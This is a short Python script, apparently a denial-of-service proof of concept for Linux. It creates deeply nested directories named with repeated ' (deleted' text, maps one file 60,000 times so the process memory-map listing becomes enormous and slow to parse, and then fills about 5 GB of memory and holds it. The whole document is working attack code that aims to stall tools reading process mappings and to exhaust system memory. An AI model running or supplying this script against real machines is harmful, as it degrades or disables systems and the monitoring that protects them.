# Maps a file so often that it takes seconds to read how, and fills memory meanwhile.
import ctypes
import os
import time

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
path = os.getcwd()
while len(path) < 3800:
    path += "/" + " (deleted" * 27
    os.mkdir(path)
file = os.open(path + "/f", os.O_RDWR | os.O_CREAT)
os.ftruncate(file, 4096)
for _ in range(60_000):
    libc.mmap(None, ctypes.c_size_t(4096), 1, 1, file, ctypes.c_long(0))
PIECE = 1 << 26
for _ in range(80):
    start = libc.mmap(None, ctypes.c_size_t(PIECE), 3, 0x22, -1, 0)
    ctypes.memset(start, 1, PIECE)
    libc.mprotect(ctypes.c_void_p(start), ctypes.c_size_t(PIECE), 1)
time.sleep(60)
